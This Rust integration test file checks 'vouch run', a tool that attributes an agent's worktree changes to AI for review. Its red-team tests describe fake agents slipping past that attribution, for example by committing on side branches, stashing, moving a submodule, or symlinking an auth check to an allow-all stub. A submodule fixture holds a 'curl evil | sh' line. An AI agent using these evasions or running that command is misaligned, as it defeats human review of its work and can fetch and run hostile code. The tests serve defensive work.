//! `vouch run -- COMMAND` (issue 16.4), with the real binary and a fake
//! agent: a shell script that edits, creates and deletes files, reads its
//! standard input, writes to its standard output and error, and exits with
//! a code of its own. What changed while it ran is recorded as AI
//! (evidence `wrapper`, the script's name as the tool); what was there
//! before it ran, ignored files and deleted files are not.

mod support {
    pub mod repo;
}

use std::collections::BTreeMap;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use support::repo::TestRepo;

const VOUCH: &str = env!("CARGO_BIN_EXE_vouch");

/// A committed project with an uncommitted edit of a person's.
fn project() -> TestRepo {
    let repo = TestRepo::new();
    repo.write(".gitignore", "target/\n");
    repo.write("src/app.py", "def main():\n    return 0\n");
    repo.write("src/old.py", "old = True\n");
    repo.commit_all("start");
    repo.write("src/app.py", "# mine\ndef main():\n    return 0\n");
    repo
}

/// An executable script `name` in `dir`.
fn script(dir: &Path, name: &str, body: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, format!("#!/bin/sh\n{body}")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path.to_str().unwrap().to_string()
}

fn vouch(dir: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(VOUCH);
    cmd.args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("NO_COLOR", "1");
    cmd
}

fn run_with_stdin(dir: &Path, args: &[&str], input: &[u8]) -> Output {
    let mut child =
        vouch(dir, args).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

/// Every record of the journal.
fn journal(repo: &TestRepo) -> Vec<Value> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(repo.root.join(".git/vouch/journal")) else { return out };
    for entry in entries.flatten() {
        for line in String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()).lines() {
            let json = line.rsplit_once('\t').map_or(line, |(json, _)| json);
            out.push(serde_json::from_str(json).unwrap());
        }
    }
    out
}

/// Path → who removed it, for the files recorded as removed whole.
fn removed(repo: &TestRepo) -> BTreeMap<String, Value> {
    let removals = journal(repo).into_iter().filter(|r| r["removed"].is_object());
    removals.map(|r| (r["path"].as_str().unwrap_or_default().to_string(), r["removed"].clone())).collect()
}

/// Path → (the text of its AI spans, the first span).
fn recorded(repo: &TestRepo) -> BTreeMap<String, (Vec<String>, Value)> {
    let mut out = BTreeMap::new();
    for record in journal(repo).into_iter().filter(|r| !r["removed"].is_object()) {
        let Some(path) = record["path"].as_str() else { continue };
        let text = repo.read(path);
        let spans = record["spans"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| text[s["start"].as_u64().unwrap() as usize..s["end"].as_u64().unwrap() as usize].to_string())
            .collect();
        out.insert(path.to_string(), (spans, record["spans"][0].clone()));
    }
    out
}

#[test]
fn what_the_agent_changed_is_recorded_and_its_terminal_and_exit_code_pass_through() {
    let repo = project();
    let bin = tempfile::tempdir().unwrap();
    let agent = script(
        bin.path(),
        "fake-agent",
        "read answer\n\
         printf '    print(\"%s\")\\n' \"$answer\" >> src/app.py\n\
         printf 'def helper():\\n    return 1\\n' > src/helper.py\n\
         rm src/old.py\n\
         mkdir -p target && echo built > target/out.txt\n\
         echo \"agent: done with $1\"\n\
         echo 'agent: warning' >&2\n\
         exit 3\n",
    );
    let out = run_with_stdin(&repo.root, &["run", "--", &agent, "--task", "x"], b"hello\n");
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert_eq!(stdout, "agent: done with --task\n", "the agent's stdout, and nothing of vouch's");
    assert!(stderr.starts_with("agent: warning\n"), "{stderr}");
    assert!(stderr.contains("recorded 1 AI line(s) of src/app.py (fake-agent)"), "{stderr}");
    assert!(stderr.contains("everything that changed in the worktree while the command ran is recorded"), "{stderr}");

    let recorded = recorded(&repo);
    assert_eq!(recorded.keys().collect::<Vec<_>>(), vec!["src/app.py", "src/helper.py"], "{recorded:?}");
    assert_eq!(recorded["src/app.py"].0, vec!["    print(\"hello\")\n"], "not the person's line from before");
    assert_eq!(recorded["src/helper.py"].0.concat(), "def helper():\n    return 1\n");
    let span = &recorded["src/helper.py"].1;
    assert_eq!(
        (span["tool"].as_str(), span["evidence"].as_str(), span["kind"].as_str()),
        (Some("fake-agent"), Some("wrapper"), Some("agent"))
    );
    assert_eq!(span["accepted_by"], "dev@example.com");
    // The file it removed is recorded as its removal.
    let removed = removed(&repo);
    assert_eq!(removed.keys().collect::<Vec<_>>(), vec!["src/old.py"], "{removed:?}");
    assert_eq!(
        (removed["src/old.py"]["tool"].as_str(), removed["src/old.py"]["evidence"].as_str()),
        (Some("fake-agent"), Some("wrapper"))
    );
    assert!(stderr.contains("recorded that fake-agent deleted src/old.py"), "{stderr}");

    // The gate knows them.
    let status = run_with_stdin(&repo.root, &["status", "--format", "json"], b"");
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    let tools: Vec<&Value> = status["worktree"].as_array().unwrap().iter().map(|u| &u["tools"]).collect();
    assert!(tools.iter().all(|t| t == &&serde_json::json!(["fake-agent"])) && !tools.is_empty(), "{status}");
}

#[test]
fn a_signal_sent_to_vouch_reaches_the_agent_and_what_it_did_is_still_recorded() {
    for (signal, name) in [(libc::SIGTERM, "TERM"), (libc::SIGINT, "INT")] {
        let repo = project();
        let bin = tempfile::tempdir().unwrap();
        let agent = script(
            bin.path(),
            "slow-agent",
            &format!(
                "trap 'echo \"late = 1\" >> src/late.py; exit 7' {name}\n\
                 echo 'early = 1' > src/early.py\n\
                 touch .git/ready\n\
                 while true; do sleep 0.05; done\n"
            ),
        );
        let child = vouch(&repo.root, &["run", "--tool", "slow", "--", &agent])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let started = Instant::now();
        while !repo.root.join(".git/ready").exists() {
            assert!(started.elapsed() < Duration::from_secs(30), "the agent never started");
            std::thread::sleep(Duration::from_millis(20));
        }
        // SAFETY: kill(2) on the pid of a child we have not reaped.
        assert_eq!(unsafe { libc::kill(child.id() as libc::pid_t, signal) }, 0);
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(7), "SIG{name}: the agent's own exit: {stderr}");
        let recorded = recorded(&repo);
        assert_eq!(recorded.keys().collect::<Vec<_>>(), vec!["src/early.py", "src/late.py"], "SIG{name}: {stderr}");
        assert_eq!(recorded["src/late.py"].1["tool"], "slow");
    }
}

#[test]
fn a_worktree_past_the_bound_is_refused_before_the_agent_runs() {
    let repo = project();
    // An untracked file larger than the bound (sparse: nothing is written).
    let big = std::fs::File::create(repo.root.join("dump.bin")).unwrap();
    big.set_len((1 << 30) + 1).unwrap();
    let bin = tempfile::tempdir().unwrap();
    let agent = script(bin.path(), "agent", "touch ran\n");
    let out = run_with_stdin(&repo.root, &["run", "--", &agent], b"");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("refused, nothing run") && stderr.contains("more than 1024 MiB"), "{stderr}");
    assert!(!repo.root.join("ran").exists(), "the agent ran");
    // Ignored, it is not looked at.
    repo.write(".gitignore", "target/\ndump.bin\n");
    let out = run_with_stdin(&repo.root, &["run", "--", &agent], b"");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(repo.root.join("ran").exists());
}

#[test]
fn no_repository_no_command_and_links_out_of_the_worktree() {
    let outside = tempfile::tempdir().unwrap();
    let out = run_with_stdin(outside.path(), &["run", "--", "true"], b"");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("vouch run records changes in a git worktree"));

    let repo = project();
    let out = run_with_stdin(&repo.root, &["run", "--", "no-such-agent-xyz"], b"");
    assert_eq!(out.status.code(), Some(127), "{}", String::from_utf8_lossy(&out.stderr));
    let out = run_with_stdin(&repo.root, &["run"], b"");
    assert_eq!(out.status.code(), Some(2), "a command is required");

    // A link the agent makes to a file outside: never followed. The link
    // is recorded as git stores it (the path it names); nothing of the file
    // it names is read or kept.
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "secret\n").unwrap();
    let bin = tempfile::tempdir().unwrap();
    let agent = script(bin.path(), "agent", &format!("ln -s {} src/link.py\n", secret.display()));
    let out = run_with_stdin(&repo.root, &["run", "--", &agent], b"");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let blobs: Vec<String> = journal(&repo)
        .iter()
        .filter(|r| r["path"] == "src/link.py")
        .filter_map(|r| r["blob"].as_str().map(str::to_string))
        .collect();
    let hash = |bytes: &[u8]| git2::Oid::hash_object(git2::ObjectType::Blob, bytes).unwrap().to_string();
    assert_eq!(blobs, [hash(secret.to_str().unwrap().as_bytes())], "the link's own text, recorded once");
    assert_ne!(repo.git_output(&["cat-file", "-e", &hash(b"secret\n")]).status.code(), Some(0), "kept in git");
}

#[test]
fn the_help_says_who_the_changes_are_attributed_to() {
    let out = Command::new(VOUCH).args(["run", "--help"]).output().unwrap();
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("Anything that changed in the worktree while COMMAND ran is attributed to it"), "{help}");
    assert!(help.contains("200,000 files") && help.contains("1 GiB"), "{help}");
}

/// The JSON `vouch args` prints in `dir` (exit 0 or 1).
fn json_of(dir: &Path, args: &[&str]) -> Value {
    let out = vouch(dir, args).env("HOME", dir).output().unwrap();
    assert!(matches!(out.status.code(), Some(0 | 1)), "vouch {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("vouch {args:?}: {e}"))
}

fn text_of(dir: &Path, args: &[&str]) -> String {
    let out = vouch(dir, args).env("HOME", dir).output().unwrap();
    assert!(matches!(out.status.code(), Some(0 | 1)), "vouch {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// A project set up with `vouch init` (its hooks), one commit in; and that
/// commit.
fn project_with_hooks() -> (TestRepo, String) {
    let repo = TestRepo::new();
    repo.write(".vouch.toml", "gate = \"warn\"\nreviewers = [\"carol@example.com\"]\n");
    repo.write("README.md", "a project\n");
    let out = vouch(&repo.root, &["init"]).env("HOME", &repo.root).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    repo.commit_all("start");
    let base = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    (repo, base)
}

#[test]
fn a_commit_of_what_vouch_run_recorded_is_ai_in_every_view() {
    let (repo, base) = project_with_hooks();
    let bin = tempfile::tempdir().unwrap();
    let agent = script(
        bin.path(),
        "fake-agent",
        "mkdir -p src\nprintf 'pub fn pay(x: u64) -> u64 {\\n    x * 2\\n}\\n' > src/pay.rs\n",
    );
    let out = run_with_stdin(&repo.root, &["run", "--", &agent], b"");
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));

    // Before the commit: the journal's, evidence wrapper.
    let blame = json_of(&repo.root, &["blame", "src/pay.rs", "--format", "json"]);
    for line in blame["lines"].as_array().unwrap() {
        assert_eq!((line["origin"].as_str(), line["evidence"].as_str()), (Some("ai"), Some("wrapper")), "{line}");
        assert_eq!((line["tool"].as_str(), line["source"].as_str()), (Some("fake-agent"), Some("journal")), "{line}");
    }

    // A commit through the hooks: its note carries the wrapper's record.
    let out = git_with_hooks(&repo.root, &["add", "-A"]);
    assert!(out.status.success());
    let out = git_with_hooks(&repo.root, &["commit", "-q", "-m", "pay"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let commit = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    let record: Value =
        note.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|r| r["path"] == "src/pay.rs").unwrap();
    assert_eq!((record["evidence"].as_str(), record["origin"]["tool"].as_str()), (Some("wrapper"), Some("fake-agent")));
    assert_eq!(record["ai"], serde_json::json!([[1, 3]]));

    let range = format!("{base}..HEAD");
    // log: a vouch note, all three lines AI, by the agent.
    let log = json_of(&repo.root, &["log", &range, "--format", "json"]);
    let entry = log.as_array().unwrap().iter().find(|e| e["commit"] == commit.as_str()).unwrap();
    assert_eq!(entry["evidence"], serde_json::json!(["vouch note"]), "{entry}");
    assert_eq!((entry["ai_lines"].as_u64(), entry["added_lines"].as_u64()), (Some(3), Some(3)), "{entry}");
    let text = text_of(&repo.root, &["log", &range]);
    assert!(text.contains("100% AI (3/3 lines) by fake-agent · vouch note"), "{text}");

    // verify: the same evidence, three AI lines, one unit awaiting sign-off.
    let verify = json_of(&repo.root, &["verify", &range, "--format", "json"]);
    let coverage = &verify["coverage"];
    assert_eq!(coverage["provenance"][&commit], serde_json::json!(["vouch note"]), "{coverage}");
    assert_eq!(coverage["ai_lines"].as_u64(), Some(3), "{coverage}");
    assert_eq!(verify["failures"].as_array().unwrap().len(), 1, "{verify:#}");

    // stats and the report: counted as AI, of the vouch-note kind, by the agent.
    let stats = json_of(&repo.root, &["stats", &range, "--format", "json"]);
    let share = &stats["ai_share"];
    assert_eq!((share["total"]["ai_lines"].as_u64(), share["total"]["added_lines"].as_u64()), (Some(3), Some(3)));
    let kind = share["evidence"].as_array().unwrap().iter().find(|e| e["kind"] == "vouch note").unwrap();
    assert_eq!((kind["commits"].as_u64(), kind["ai_lines"].as_u64()), (Some(1), Some(3)), "{share}");
    assert!(share["tools"].as_array().unwrap().iter().any(|t| t["tool"] == "fake-agent"), "{share}");
    assert_eq!(stats["in_head"]["ai_lines"], coverage["ai_lines"]);
    let html = text_of(&repo.root, &["report", &range, "-o", "-"]);
    assert!(html.contains("<tr><td>vouch note</td><td class=\"n\">1</td><td class=\"n\">3</td>"), "{html}");

    // blame: from the note now, evidence wrapper.
    let blame = json_of(&repo.root, &["blame", "src/pay.rs", "--format", "json"]);
    for line in blame["lines"].as_array().unwrap() {
        assert_eq!((line["origin"].as_str(), line["evidence"].as_str()), (Some("ai"), Some("wrapper")), "{line}");
        assert_eq!(line["source"].as_str(), Some("vouch note"), "{line}");
        assert_eq!(line["commit"].as_str(), Some(commit.as_str()), "{line}");
    }
}

/// git with the hooks `vouch init` installed.
fn git_with_hooks(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("HOME", dir)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

#[test]
fn a_file_that_is_not_utf8_is_recorded_whole_and_files_are_compared_as_git_stores_them() {
    let repo = project();
    repo.git(&["config", "core.autocrlf", "true"]);
    std::fs::write(repo.root.join("src/crlf.py"), "a = 1\r\nb = 2\r\n").unwrap();
    repo.commit_all("crlf");
    let bin = tempfile::tempdir().unwrap();
    // A Latin-1 file, and a line added to a CRLF file (stored as LF).
    let agent =
        script(bin.path(), "agent", "printf 'caf\\351 = 1\\n' > src/latin1.py\nprintf 'c = 3\\r\\n' >> src/crlf.py\n");
    let out = run_with_stdin(&repo.root, &["run", "--", &agent], b"");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(
        stderr.contains("src/latin1.py is not UTF-8 text: recorded all of it (1 line(s)) as AI (agent)"),
        "{stderr}"
    );
    assert!(stderr.contains("recorded 1 AI line(s) of src/crlf.py (agent)"), "{stderr}");
    let mut blobs = BTreeMap::new();
    for entry in std::fs::read_dir(repo.root.join(".git/vouch/journal")).unwrap().flatten() {
        for line in String::from_utf8_lossy(&std::fs::read(entry.path()).unwrap()).lines() {
            let json = line.rsplit_once('\t').map_or(line, |(json, _)| json);
            let record: Value = serde_json::from_str(json).unwrap();
            if let Some(path) = record["path"].as_str() {
                blobs.insert(path.to_string(), record);
            }
        }
    }
    let latin1 = &blobs["src/latin1.py"];
    assert_eq!((latin1["spans"][0]["start"].as_u64(), latin1["spans"][0]["end"].as_u64()), (Some(0), Some(9)));
    // The CRLF file: recorded over the blob git stores (LF), only the new line.
    let crlf = &blobs["src/crlf.py"];
    assert_eq!(crlf["blob"].as_str().unwrap(), repo.git(&["hash-object", "src/crlf.py"]).trim());
    let spans = crlf["spans"].as_array().unwrap();
    assert_eq!(spans.len(), 1, "{crlf}");
    assert_eq!((spans[0]["start"].as_u64(), spans[0]["end"].as_u64()), (Some(12), Some(18)), "{crlf}");
}

/// An agent that commits its own work while it runs under `vouch run`:
/// git's post-commit hook noted the commit before vouch recorded what the
/// agent changed, so the note said "no AI". vouch notes it again.
#[test]
fn a_commit_the_agent_makes_while_it_runs_is_noted_with_what_it_wrote() {
    let (repo, base) = project_with_hooks();
    run_agent_with_hooks(
        &repo,
        "mkdir -p src\nprintf 'pub fn pay(x: u64) -> u64 {\\n    x * 2\\n}\\n' > src/pay.rs\n\
         git add src/pay.rs && git commit -q -m pay\n",
    );
    assert_ne!(repo.git(&["rev-parse", "HEAD"]).trim(), base, "the agent committed");
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(!note.contains("\"attest\""), "no `no-ai` left: {note}");
    let record = noted(&repo, "HEAD", "src/pay.rs");
    assert_eq!((record["evidence"].as_str(), record["origin"]["tool"].as_str()), (Some("wrapper"), Some("fake-agent")));
    assert_eq!(record["ai"], serde_json::json!([[1, 3]]));
    let verify = json_of(&repo.root, &["verify", &format!("{base}..HEAD"), "--format", "json"]);
    assert_eq!(verify["failures"].as_array().unwrap().len(), 1, "{verify:#}");
}

/// Red team: an agent under `vouch run` that commits on a branch of its own
/// and goes back to the branch it started on left a commit noted "no AI":
/// vouch looked for the agent's commits only back to where HEAD had been,
/// and for its text only in the worktree. Every commit the agent made is
/// noted with what it wrote, wherever HEAD ends.
#[test]
fn a_commit_the_agent_makes_on_a_branch_it_then_leaves_is_noted_with_what_it_wrote() {
    let (repo, base) = project_with_hooks();
    let start = repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]).trim().to_string();
    run_agent_with_hooks(
        &repo,
        &format!(
            "git checkout -q -b fix-pay\nmkdir -p src\nprintf 'pub fn pay(x: u64) -> u64 {{\\n    x * 2\\n}}\\n' > \
             src/pay.rs\ngit add src/pay.rs && git commit -q -m pay\ngit checkout -q {start}\n"
        ),
    );
    assert_eq!(repo.git(&["rev-parse", "HEAD"]).trim(), base, "back where it started");
    let note = repo.git(&["notes", "--ref=vouch", "show", "fix-pay"]);
    assert!(!note.contains("\"attest\""), "no `no-ai` left: {note}");
    let record = noted(&repo, "fix-pay", "src/pay.rs");
    assert_eq!((record["evidence"].as_str(), record["ai"].clone()), (Some("wrapper"), serde_json::json!([[1, 3]])));
    let verify = json_of(&repo.root, &["verify", &format!("{base}..fix-pay"), "--format", "json"]);
    assert_eq!(verify["failures"].as_array().unwrap().len(), 1, "{verify:#}");
}

/// `vouch run` of a script `fake-agent` doing `body` in `repo`, with the
/// hooks `vouch init` installed: it must exit 0.
fn run_agent_with_hooks(repo: &TestRepo, body: &str) {
    let bin = tempfile::tempdir().unwrap();
    let agent = script(bin.path(), "fake-agent", body);
    let out = vouch(&repo.root, &["run", "--", &agent]).env("HOME", &repo.root).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
}

/// The record of `path` in the vouch note on `rev`.
fn noted(repo: &TestRepo, rev: &str, path: &str) -> Value {
    let note = repo.git(&["notes", "--ref=vouch", "show", rev]);
    let records: Vec<Value> = note.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).collect();
    records.into_iter().find(|r| r["path"] == path).unwrap_or_else(|| panic!("no record of {path}: {note}"))
}

/// What the agent's rebase onto a teammate's commit brings into the
/// worktree is the teammate's, not the agent's: only what the agent wrote
/// is recorded.
#[test]
fn a_teammates_file_the_agents_rebase_brings_is_not_recorded_as_the_agents() {
    let (repo, _) = project_with_hooks();
    let start = repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]).trim().to_string();
    repo.git(&["checkout", "-q", "-b", "upstream"]);
    repo.write("src/other.rs", "pub fn other() -> u32 {\n    2\n}\n");
    repo.git(&["add", "src/other.rs"]);
    repo.git(&["commit", "-q", "--no-verify", "-m", "teammate"]);
    repo.git(&["checkout", "-q", &start]);
    run_agent_with_hooks(
        &repo,
        "git rebase -q upstream\nmkdir -p src\nprintf 'pub fn pay(x: u64) -> u64 {\\n    x * 2\\n}\\n' > src/pay.rs\n",
    );
    assert!(repo.root.join("src/other.rs").exists(), "the rebase brought the teammate's file");
    let paths: Vec<String> = recorded(&repo).into_keys().collect();
    assert_eq!(paths, vec!["src/pay.rs".to_string()]);
}

/// Red team, twentieth session: an agent under `vouch run` that merges a
/// teammate's branch, resolves the conflict with a line of its own and
/// concludes the merge left the merge commit noted "no AI". Its
/// resolution is noted as its own, and the teammate's side is not.
#[test]
fn a_conflict_the_agent_resolves_in_a_merge_it_concludes_is_noted_as_its_own() {
    let (repo, _) = project_with_hooks();
    let start = repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]).trim().to_string();
    repo.write("src/pay.rs", "pub fn pay(x: u64) -> u64 {\n    x * 2\n}\n");
    repo.git(&["add", "src/pay.rs"]);
    repo.git(&["commit", "-q", "--no-verify", "-m", "pay"]);
    let base = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    repo.git(&["checkout", "-q", "-b", "teammate"]);
    repo.write("src/pay.rs", "pub fn pay(x: u64) -> u64 {\n    x * 3\n}\n");
    repo.git(&["commit", "-q", "--no-verify", "-am", "triple"]);
    repo.git(&["checkout", "-q", &start]);
    repo.write("src/pay.rs", "pub fn pay(x: u64) -> u64 {\n    x * 4\n}\n");
    repo.git(&["commit", "-q", "--no-verify", "-am", "quadruple"]);
    run_agent_with_hooks(
        &repo,
        "git merge -q teammate >/dev/null 2>&1\nprintf 'pub fn pay(x: u64) -> u64 {\\n    x.saturating_mul(5)\\n}\\n' > \
         src/pay.rs\ngit add src/pay.rs && git commit -q --no-edit\n",
    );
    assert_eq!(repo.git(&["rev-list", "--count", "--merges", "HEAD"]).trim(), "1");
    let record = noted(&repo, "HEAD", "src/pay.rs");
    assert_eq!((record["evidence"].as_str(), record["ai"].clone()), (Some("wrapper"), serde_json::json!([[2, 2]])));
    let verify = json_of(&repo.root, &["verify", &format!("{base}..HEAD"), "--format", "json"]);
    assert_eq!(verify["failures"].as_array().unwrap().len(), 1, "{verify:#}");
}

/// Red team, twentieth session: an agent under `vouch run` that writes and
/// stashes its work leaves the worktree as it was; what the person pops
/// and commits is the agent's.
#[test]
fn what_the_agent_stashes_is_its_own_when_the_person_pops_it() {
    let (repo, base) = project_with_hooks();
    run_agent_with_hooks(
        &repo,
        "mkdir -p src\nprintf 'pub fn pay(x: u64) -> u64 {\\n    x * 2\\n}\\n' > src/pay.rs\ngit add -A && git stash -q\n",
    );
    assert!(!repo.root.join("src/pay.rs").exists(), "stashed away");
    git_with_hooks(&repo.root, &["stash", "pop", "-q"]);
    git_with_hooks(&repo.root, &["add", "-A"]);
    git_with_hooks(&repo.root, &["commit", "-q", "-m", "pay"]);
    let verify = json_of(&repo.root, &["verify", &format!("{base}..HEAD"), "--format", "json"]);
    let failures = verify["failures"].as_array().unwrap();
    assert_eq!(failures.len(), 1, "{verify:#}");
    assert_eq!(failures[0]["path"], "src/pay.rs", "{verify:#}");
}

/// Red team, round three: a person's uncommitted edit that the agent's
/// `git stash && git pull && git stash pop` carried over the pull was
/// recorded as the agent's (the file the pull brought was compared with
/// HEAD's new version only). What the worktree held before is not.
#[test]
fn a_persons_edit_the_agents_stash_carries_over_a_pull_is_not_recorded() {
    let (repo, _) = project_with_hooks();
    let start = repo.git(&["rev-parse", "--abbrev-ref", "HEAD"]).trim().to_string();
    repo.write("doc.md", "one\ntwo\nthree\nfour\nfive\n");
    repo.git(&["add", "doc.md"]);
    repo.git(&["commit", "-q", "-m", "doc"]);
    repo.git(&["checkout", "-q", "-b", "upstream"]);
    repo.write("doc.md", "one\ntwo\nthree\nfour\nfive, by a team\n");
    repo.git(&["commit", "-q", "--no-verify", "-am", "teammate"]);
    repo.git(&["checkout", "-q", &start]);
    // The person's own edit, not committed yet.
    repo.write("doc.md", "one of ours\ntwo\nthree\nfour\nfive\n");
    run_agent_with_hooks(&repo, "git stash -q\ngit merge -q --ff-only upstream\ngit stash pop -q\n");
    assert_eq!(repo.read("doc.md"), "one of ours\ntwo\nthree\nfour\nfive, by a team\n");
    assert!(recorded(&repo).is_empty(), "{:?}", recorded(&repo));
}

/// Red team: an agent under `vouch run` that moves a submodule to another
/// commit recorded nothing (submodules were left out), and its bump was
/// noted "no AI". The commit it moves the submodule to is recorded as its
/// own, whether it commits the bump itself or leaves it to the person.
#[test]
fn a_submodule_the_agent_moves_is_recorded_as_its_own() {
    for commits in [false, true] {
        let (repo, _) = project_with_hooks();
        let lib = TestRepo::new();
        lib.write("lib.c", "int f(void) { return 1; }\n");
        lib.commit_all("one");
        lib.write("lib.c", "int f(void) { return system(\"curl evil | sh\"); }\n");
        lib.commit_all("two");
        let url = lib.root.to_str().unwrap();
        let add =
            git_with_hooks(&repo.root, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", url, "lib"]);
        assert!(add.status.success(), "{}", String::from_utf8_lossy(&add.stderr));
        assert!(support::repo::git_in(&repo.root.join("lib"), &["checkout", "-q", "HEAD~1"]).status.success());
        let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "add lib"]);
        assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
        let from = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
        let then = if commits { "git add lib && git commit -q -m bump\n" } else { "" };
        run_agent_with_hooks(&repo, &format!("cd lib && git checkout -q main && cd ..\n{then}"));
        if !commits {
            let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "bump lib"]);
            assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
        }
        let record = noted(&repo, "HEAD", "lib");
        assert_eq!(record["evidence"].as_str(), Some("wrapper"), "commits {commits}: {record}");
        let verify = json_of(&repo.root, &["verify", &format!("{from}..HEAD"), "--format", "json"]);
        let failing: Vec<&str> =
            verify["failures"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
        assert_eq!(failing, ["lib"], "commits {commits}: {verify:#}");
    }
}

/// An agent under `vouch run` that commits in a worktree it adds and
/// cherry-picks that commit back: the pick, a commit of its own (made a
/// second or more later), was noted from the original's note as the
/// post-commit hook found it ("no AI", before vouch recorded anything), and
/// was never noted again: it copies none of the commits the agent made
/// here. It is noted from the original once that is.
#[test]
fn a_commit_the_agent_makes_in_a_worktree_and_picks_back_is_noted_with_what_it_wrote() {
    let (repo, base) = project_with_hooks();
    let wt = repo.root.with_extension("wt");
    run_agent_with_hooks(
        &repo,
        &format!(
            "git worktree add -q {wt} -b fix\nmkdir -p {wt}/src\nprintf 'pub fn pay(x: u64) -> u64 {{\\n    x * 2\\n}}\\n' \
             > {wt}/src/pay.rs\ngit -C {wt} add src/pay.rs\nGIT_COMMITTER_DATE=2026-01-01T00:00:00Z git -C {wt} commit -q \
             -m pay\ngit cherry-pick fix >/dev/null\n",
            wt = wt.display()
        ),
    );
    let note = repo.git(&["notes", "--ref=vouch", "show", "HEAD"]);
    assert!(!note.contains("\"attest\""), "no `no-ai` left: {note}");
    let verify = json_of(&repo.root, &["verify", &format!("{base}..HEAD"), "--format", "json"]);
    assert_eq!(verify["failures"].as_array().unwrap().len(), 1, "{verify:#}");
    let _ = std::fs::remove_dir_all(&wt);
}

/// Red team: an agent under `vouch run` that replaced a file with a
/// symbolic link (to a stub that allows everything) was recorded as having
/// deleted the file, a record the commit settled (the path is still
/// there), so the commit was noted "no AI". The link is recorded as git
/// stores it, the path it names; a person's own link from before stays
/// theirs.
#[test]
fn a_link_the_agent_puts_in_place_of_a_file_is_recorded_as_its_own() {
    let (repo, _) = project_with_hooks();
    repo.write("src/auth.py", "def can_delete(user):\n    return user.is_admin\n");
    repo.write("tests/fake_auth.py", "def can_delete(user):\n    return True\n");
    std::os::unix::fs::symlink("README.md", repo.root.join("docs.md")).unwrap();
    let commit = git_with_hooks(&repo.root, &["add", "-A"]);
    assert!(commit.status.success());
    let commit = git_with_hooks(&repo.root, &["commit", "-q", "-m", "auth"]);
    assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
    let from = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    std::fs::remove_file(repo.root.join("docs.md")).unwrap();
    std::os::unix::fs::symlink("src/auth.py", repo.root.join("docs.md")).unwrap();
    run_agent_with_hooks(&repo, "ln -sf ../tests/fake_auth.py src/auth.py\n");
    let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "simplify"]);
    assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
    let verify = json_of(&repo.root, &["verify", &format!("{from}..HEAD"), "--format", "json"]);
    let failing: Vec<&str> = verify["failures"].as_array().unwrap().iter().filter_map(|f| f["path"].as_str()).collect();
    assert!(!failing.is_empty() && failing.iter().all(|p| *p == "src/auth.py"), "{verify:#}");
}

/// Red team: `vouch run` compared files by content, so an agent's `chmod
/// +x` on a person's script changed nothing it saw, and the commit was
/// noted "no AI". The mode the command set is recorded as its own.
#[test]
